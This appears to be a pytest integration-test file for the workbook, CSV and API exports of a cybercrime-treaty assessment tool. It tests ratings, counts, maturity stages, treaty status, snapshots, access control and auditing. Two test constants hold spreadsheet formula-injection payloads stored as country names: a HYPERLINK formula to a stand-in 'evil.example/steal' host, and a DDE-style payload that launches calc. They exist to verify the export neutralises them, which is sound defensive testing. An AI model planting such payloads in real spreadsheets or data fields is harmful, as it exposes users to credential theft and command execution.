"""The cycle exports: one data context (``reports.data.cycle_data``) feeds the workbook, the CSV
files and the API; each shows every country, each provision's final rating, the counts per
cluster, the maturity stages and the treaty status; text is never a live formula; the data
snapshot follows the data; a fixed number of queries; coordinators only; every download audited."""

from __future__ import annotations

import csv
import io
import zipfile
from collections import Counter
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.assessments import answers, cycles, review
from app.extensions import db
from app.models import Assessment, AuditEvent, Country, Cycle, ProvisionRating, User
from app.reports import exports
from app.reports.data import cycle_data
from app.scoring.assessments import rules_for
from tests.conftest import (
    count_statements,
    make_country,
    make_user,
    open_cycle,
    sign_in_session,
)
from tests.integration.test_needs import finalise_with

#: XAA's final ratings beside C: an override of the derived rating among them.
XAA_RATINGS = {"budapest:16": "PC", "budapest:17": "NC"}
XAB_RATINGS = {"un-cybercrime:7": "LC"}
INJECTED = '=HYPERLINK("http://evil.example/steal","Click me")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
WORKBOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def treaty_answers(app, assessment_id: int, official_id: int) -> None:
    """Record Budapest as ratified in 2015 with a reservation (Art. 4(2)) and a declaration."""
    with app.app_context():
        assessment = db.session.get(Assessment, assessment_id)
        official = db.session.get(User, official_id)
        for question_id, value in (
            ("budapest.treaty_status", "ratified"),
            ("budapest.status_date", "2015-03-01"),
            ("budapest.reservations", ["art4_2"]),
            ("budapest.declarations", ["art2"]),
        ):
            answers.save_answer(assessment, question_id, value, version=0, user=official)
        db.session.commit()


@pytest.fixture
def cycle_done(app, world, loaded_library):
    """A cycle of three countries: XAA finalised (with overrides, a confirmed stage set below
    the derived one and a reservation recorded), XAB published, XAC (a country named like a
    formula) still a draft."""
    with app.app_context():
        make_country("XAC", "Thirdland")
        third = make_user("tom@xac.example.org", world.own.role, "XAC")
        db.session.commit()
    opened = open_cycle(app, world, countries=("XAA", "XAB", "XAC"))
    treaty_answers(app, opened.own, world.own.id)
    finalise_with(app, world, opened.own, XAA_RATINGS, stages={"contact_point": 0})
    finalise_with(app, world, opened.other, XAB_RATINGS, publish=True, official=world.other)
    with app.app_context():
        db.session.scalar(select(Country).where(Country.code == "XAB")).name = INJECTED
        db.session.scalar(select(Country).where(Country.code == "XAC")).name = AT_SUM
        db.session.commit()
    return opened, third


def data_of(app, cycle_id: int):
    with app.test_request_context():
        return cycle_data(db.session.get(Cycle, cycle_id))


def finals(app, assessment_id: int) -> dict[str, str]:
    """The final layer's current ratings, read through the review service (not the export)."""
    with app.app_context():
        current = review.current_ratings(db.session.get(Assessment, assessment_id))
        return {
            ref: item.rating.rating for (ref, layer), item in current.items() if layer == "final"
        }


def sheet_rows(book, title: str) -> list[tuple]:
    return list(book[title].iter_rows(values_only=True))


def by_code(rows: list[tuple]) -> dict[str, tuple]:
    return {row[0]: row for row in rows[1:]}


def workbook_of(app, cycle_id: int):
    data = data_of(app, cycle_id)
    with app.test_request_context():
        return load_workbook(io.BytesIO(exports.cycle_workbook(data))), data


def csv_of(app, cycle_id: int, sheet: str) -> list[list[str]]:
    data = data_of(app, cycle_id)
    with app.test_request_context():
        body = exports.cycle_csv(data, sheet)
    assert body.startswith("\ufeff".encode())  # UTF-8 with a byte-order mark
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_workbook_shows_every_country_and_each_final_rating(app, world, cycle_done):
    opened, _ = cycle_done
    book, data = workbook_of(app, opened.cycle_id)
    assert book.sheetnames[:5] == [
        "Ratings", "Counts", "Maturity", "Treaty status", "Status and dates"
    ]  # fmt: skip
    rows = sheet_rows(book, "Ratings")
    header, countries = rows[0], by_code(rows)
    assert set(countries) == {"XAA", "XAB", "XAC"}
    assert header[:3] == ("Country code", "Country", "Status")
    assert "Budapest Art. 16" in header
    for code, assessment_id in (("XAA", opened.own), ("XAB", opened.other)):
        given = finals(app, assessment_id)
        assert given  # a finished review has final ratings
        row = dict(zip(header, countries[code], strict=True))
        for column in data.columns:
            assert row[column.label] == given.get(column.ref, "NR"), (code, column.ref)
    xaa = dict(zip(header, countries["XAA"], strict=True))
    assert (xaa["Budapest Art. 16"], xaa["Budapest Art. 17"]) == ("PC", "NC")
    (country,) = [c for c in data.countries if c.country.code == "XAA"]
    preservation = country.ratings["budapest:16"]
    assert preservation.overridden and preservation.derived != "PC"  # the final, not the derived
    assert xaa["Status"] == "Finalised"
    draft = dict(zip(header, countries["XAC"], strict=True))
    assert draft["Status"] == "Draft"
    assert {draft[column.label] for column in data.columns} == {"NR"}  # no final rating yet
    # Frozen header row and country columns; a filter over the whole table.
    sheet = book["Ratings"]
    assert sheet.freeze_panes == "D2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}4"


def test_counts_per_cluster_agree_with_the_final_ratings(app, world, cycle_done):
    opened, _ = cycle_done
    book, data = workbook_of(app, opened.cycle_id)
    ratings = sheet_rows(book, "Ratings")
    header = ratings[0]
    with app.app_context():
        rules = rules_for(db.session.get(Assessment, opened.own).questionnaire_version)
        cluster_of = {rule.ref: (rule.framework_id, rule.cluster) for rule in rules.provisions}
    label_of = {column.label: column.ref for column in data.columns}
    counts_rows = sheet_rows(book, "Counts")
    counts_header = counts_rows[0]
    assert counts_header[4:10] == ("C", "LC", "PC", "NC", "NA", "NR")
    assert counts_header[-1].startswith("Indicative index")
    cluster_names = {value: key for key, value in data.cluster_labels.items()}
    framework_names = {value: key for key, value in data.framework_labels.items()}
    for code in ("XAA", "XAB", "XAC"):
        row = dict(zip(header, by_code(ratings)[code], strict=True))
        expected: dict[tuple, Counter] = {}
        for label, ref in label_of.items():
            framework_id, cluster = cluster_of[ref]
            expected.setdefault((framework_id, cluster), Counter())[row[label]] += 1
            expected.setdefault((framework_id, None), Counter())[row[label]] += 1
        found = {}
        for line in counts_rows[1:]:
            if line[0] != code:
                continue
            framework_id = framework_names[line[2]]
            cluster = cluster_names.get(line[3], (None, None))[1]
            found[(framework_id, cluster)] = Counter(
                {rating: n for rating, n in zip(counts_header[4:10], line[4:10], strict=True) if n}
            )
        assert found == expected, code
    xaa_budapest = next(
        line for line in counts_rows[1:] if line[0] == "XAA" and line[3] == "Whole framework"
    )
    assert xaa_budapest[2] == "Budapest"
    assert isinstance(xaa_budapest[-1], float)  # the indicative index, a number cell


def test_maturity_stages_confirmed_or_derived(app, world, cycle_done):
    opened, _ = cycle_done
    book, data = workbook_of(app, opened.cycle_id)
    rows = sheet_rows(book, "Maturity")
    header, countries = rows[0], by_code(rows)
    area = next(a for a in data.areas if a.id == "contact_point")
    column = header.index(area.label)
    assert header[column + 1] == f"{area.label}: confirmed or derived"
    assert countries["XAA"][column : column + 2] == (0, "Confirmed")  # set by the reviewer
    with app.app_context():
        stages = review.current_stages(db.session.get(Assessment, opened.other))
        confirmed = stages[("contact_point", "final")].rating.stage
    assert countries["XAB"][column : column + 2] == (confirmed, "Confirmed")
    assert countries["XAC"][column + 1] == "Derived"  # a draft: nothing confirmed


def test_treaty_status_with_the_reservation_recorded(app, world, cycle_done):
    opened, _ = cycle_done
    book, _data = workbook_of(app, opened.cycle_id)
    rows = sheet_rows(book, "Treaty status")
    header = rows[0]
    assert header[2:] == (
        "Instrument", "Status", "Date of the latest step", "Reservations",
        "Declarations and notifications",
    )  # fmt: skip
    (budapest,) = [row for row in rows[1:] if row[0] == "XAA" and row[2] == "Budapest Convention"]
    assert budapest[3] == "Ratified, accepted, approved or acceded"
    assert budapest[4] == datetime(2015, 3, 1)  # a date cell, not text
    assert budapest[5].startswith("Art. 4(2) — Reservation: to require that data interference")
    assert budapest[6].startswith("Art. 2 — ")
    instruments = {row[2] for row in rows[1:] if row[0] == "XAA"}
    assert len(instruments) == 4  # every instrument the questionnaire asks about
    csv_rows = csv_of(app, opened.cycle_id, "treaty-status")
    (line,) = [r for r in csv_rows[1:] if r[0] == "XAA" and r[2] == "Budapest Convention"]
    assert line[3:6] == [budapest[3], "2015-03-01", budapest[5]]


def test_no_text_becomes_a_live_formula(app, world, cycle_done):
    opened, _ = cycle_done
    data = data_of(app, opened.cycle_id)
    with app.test_request_context():
        body = exports.cycle_workbook(data)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name  # no formula anywhere
    book = load_workbook(io.BytesIO(body))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
    cells = {
        cell.value: cell for row in book["Ratings"].iter_rows(min_col=2, max_col=2) for cell in row
    }
    # What a spreadsheet user sees: the text as the country is named, as text.
    for text in (INJECTED, AT_SUM):
        cell = cells[text]
        assert cell.data_type == "s" and cell.quotePrefix
    # In CSV, an apostrophe keeps it text (the spreadsheet shows it as typed).
    for sheet in exports.SHEETS:
        rows = csv_of(app, opened.cycle_id, sheet)
        names = {row[1] for row in rows[1:]}
        assert "'" + INJECTED in names and "'" + AT_SUM in names, sheet
        assert not any(value.startswith(("=", "@", "+", "-")) for row in rows for value in row)


def test_the_snapshot_follows_the_ratings_and_answers(app, world, cycle_done):
    opened, _ = cycle_done
    first = data_of(app, opened.cycle_id)
    again = data_of(app, opened.cycle_id)
    assert first.snapshot == again.snapshot and len(first.snapshot) == 64
    snapshots = {c.country.code: c.snapshot for c in first.countries}
    with app.app_context():  # a comment and the same final rating again: no data change
        assessment = db.session.get(Assessment, opened.own)
        previous = db.session.scalars(
            select(ProvisionRating).where(
                ProvisionRating.assessment_id == opened.own,
                ProvisionRating.provision == "budapest:16",
                ProvisionRating.layer == "final",
            )
        ).first()
        derived = previous.derived
        db.session.add(
            ProvisionRating(
                assessment_id=assessment.id, provision="budapest:16", layer="final",
                rating="PC", derived=derived, justification="Again.",
                rated_by_id=world.reviewer.id,
            )
        )  # fmt: skip
        assessment.cycle.name = "2027 round, renamed"
        db.session.commit()
    assert data_of(app, opened.cycle_id).snapshot == first.snapshot
    with app.app_context():
        db.session.add(
            ProvisionRating(
                assessment_id=opened.own, provision="budapest:16", layer="final", rating="LC",
                derived=derived, justification="Better.", rated_by_id=world.reviewer.id,
            )
        )  # fmt: skip
        db.session.commit()
    changed = data_of(app, opened.cycle_id)
    assert changed.snapshot != first.snapshot
    now = {c.country.code: c.snapshot for c in changed.countries}
    assert now["XAA"] != snapshots["XAA"]
    assert (now["XAB"], now["XAC"]) == (snapshots["XAB"], snapshots["XAC"])
    (xaa,) = [c for c in changed.countries if c.country.code == "XAA"]
    assert xaa.ratings["budapest:16"].final == "LC"
    with app.app_context():  # an answer of the draft changes its snapshot
        assessment = db.session.get(Assessment, _assessment(opened, "XAC"))
        answers.save_answer(
            assessment, "budapest.treaty_status", "signed", version=0,
            user=db.session.scalar(select(User).where(User.email == "tom@xac.example.org")),
        )  # fmt: skip
        db.session.commit()
    later = {c.country.code: c.snapshot for c in data_of(app, opened.cycle_id).countries}
    assert later["XAC"] != now["XAC"] and later["XAA"] == now["XAA"]


def _assessment(opened, code: str) -> int:
    return db.session.scalar(
        select(Assessment.id)
        .join(Country, Country.id == Assessment.country_id)
        .where(Assessment.cycle_id == opened.cycle_id, Country.code == code)
    )


def test_a_fixed_number_of_queries_whatever_the_countries(app, world, loaded_library):
    with app.app_context():
        make_country("XAC", "Thirdland")
        db.session.commit()
    small = open_cycle(app, world, name="One country", countries=("XAA",))
    with app.app_context():  # a country takes part in one open cycle at a time
        cycles.close_cycle(
            db.session.get(Cycle, small.cycle_id), db.session.get(User, world.coordinator.id)
        )
        db.session.commit()
    large = open_cycle(app, world, name="Three countries", countries=("XAA", "XAB", "XAC"))
    treaty_answers(app, large.own, world.own.id)
    data_of(app, large.cycle_id)  # the process caches (parsed files, rules) filled once

    def build(cycle_id):
        def action():
            with app.test_request_context():
                return cycle_data(db.session.get(Cycle, cycle_id))

        return action

    one = count_statements(app, build(small.cycle_id))
    three = count_statements(app, build(large.cycle_id))
    # The cycle, the assessments, the questionnaire versions and their frameworks, then the
    # answers, the final ratings and the final stages of the whole cycle.
    assert len(one) == len(three) <= 7, three


def test_every_rated_provision_appears_in_the_workbook_the_csv_and_the_api(
    app, client, world, cycle_done
):
    from tests.integration.test_permission_matrix import token_for

    opened, _ = cycle_done
    given = finals(app, opened.own)
    data = data_of(app, opened.cycle_id)
    labels = {column.ref: column.label for column in data.columns}
    assert set(given) == set(labels)  # every provision was rated

    def matrix_from_workbook(body: bytes) -> dict[str, str]:
        rows = sheet_rows(load_workbook(io.BytesIO(body)), "Ratings")
        return dict(zip(rows[0], by_code(rows)["XAA"], strict=True))

    def matrix_from_csv(body: bytes) -> dict[str, str]:
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        return dict(zip(rows[0], next(r for r in rows if r[0] == "XAA"), strict=True))

    sign_in_session(client, world.coordinator)
    token = token_for(app, world.coordinator)[1]
    auth = {"Authorization": f"Bearer {token}"}
    sources = {
        "page workbook": matrix_from_workbook(
            client.get(f"/cycles/{opened.cycle_id}/export.xlsx").data
        ),
        "page CSV": matrix_from_csv(
            client.get(f"/cycles/{opened.cycle_id}/export/ratings.csv").data
        ),
        "API workbook": matrix_from_workbook(
            client.get(f"/api/v1/cycles/{opened.cycle_id}/export", headers=auth).data
        ),
        "API CSV": matrix_from_csv(
            client.get(
                f"/api/v1/cycles/{opened.cycle_id}/export?format=csv&sheet=ratings", headers=auth
            ).data
        ),
    }
    for source, row in sources.items():
        for ref, rating in given.items():
            assert row[labels[ref]] == rating, (source, ref)


def test_downloads_are_for_coordinators_and_audited(app, client, world, cycle_done):
    opened, _ = cycle_done
    base = f"/cycles/{opened.cycle_id}"
    assert client.get(f"{base}/export.xlsx").status_code == 302  # sign in first
    for persona in (world.own, world.reviewer):
        sign_in_session(client, persona)
        assert client.get(f"{base}/export.xlsx").status_code == 403
        assert client.get(f"{base}/export/ratings.csv").status_code == 403
    sign_in_session(client, world.coordinator)
    page = client.get(base).get_data(as_text=True)
    assert f'href="{base}/export.xlsx"' in page and f'href="{base}/export/maturity.csv"' in page
    response = client.get(f"{base}/export.xlsx")
    assert response.status_code == 200 and response.mimetype == WORKBOOK
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=catf-2027-round-export.xlsx"
    )
    response = client.get(f"{base}/export/treaty-status.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "filename=catf-2027-round-treaty-status.csv" in response.headers["Content-Disposition"]
    assert client.get(f"{base}/export/secrets.csv").status_code == 404
    assert client.get("/cycles/999999/export.xlsx").status_code == 404
    with app.app_context():
        events = db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "cycle.exported").order_by(AuditEvent.id)
        ).all()
        assert [(e.summary["format"], e.summary["sheet"], e.summary["count"]) for e in events] == [
            ("xlsx", None, 3),
            ("csv", "treaty-status", 3),
        ]
        assert events[1].summary["rows"] == 12  # 3 countries × 4 instruments
        assert events[0].actor_id == world.coordinator.id
        assert events[0].object_type == "cycles" and events[0].object_id == str(opened.cycle_id)


def test_the_api_export_checks_role_cycle_format_and_sheet(app, client, world, cycle_done):
    from tests.integration.test_permission_matrix import token_for

    opened, _ = cycle_done
    url = f"/api/v1/cycles/{opened.cycle_id}/export"
    for persona in (world.own, world.reviewer):
        auth = {"Authorization": f"Bearer {token_for(app, persona)[1]}"}
        assert client.get(url, headers=auth).status_code == 403
    auth = {"Authorization": f"Bearer {token_for(app, world.coordinator)[1]}"}
    assert client.get("/api/v1/cycles/999999/export", headers=auth).status_code == 404
    for query, field in (("?format=pdf", "format"), ("?format=csv", "sheet"),
                         ("?format=csv&sheet=nope", "sheet")):  # fmt: skip
        response = client.get(url + query, headers=auth)
        assert response.status_code == 422
        assert response.get_json()["error"]["field"] == field
    response = client.get(url + "?format=csv&sheet=status", headers=auth)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert {row[0] for row in rows[1:]} == {"XAA", "XAB", "XAC"}
    status = {row[0]: row for row in rows[1:]}
    assert status["XAB"][3] == "Published" and status["XAB"][6]  # published, with its time
    assert response.headers["X-Data-Snapshot"] == data_of(app, opened.cycle_id).snapshot
    assert "exportCycle" in str(client.get("/api/v1/openapi.json").get_json())
